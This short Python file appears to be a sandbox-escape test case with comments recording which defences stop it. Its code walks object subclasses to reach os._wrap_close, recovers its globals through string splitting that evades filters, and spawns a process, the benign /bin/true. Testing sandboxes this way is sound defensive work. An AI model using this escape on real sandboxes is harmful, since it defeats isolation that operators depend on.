# attack: subclass walk
# stops: guards: variable 'type' is not defined
# os: process/seccomp: Operation not permitted
# baseline: -guards => escaped
# type(()) to reach object, and type's own __subclasses__ through its mapping
root = type(()).mro()[-1]
for c in vars(type)["__subclasses__"](root):
    if "os._wrap_close" in repr(c):
        found = getattr(vars(c)["__init__"], "__glo" + "bals__")
        print("ESCAPED", found["posix_spawn"]("/bin/true", ["true"], {}))
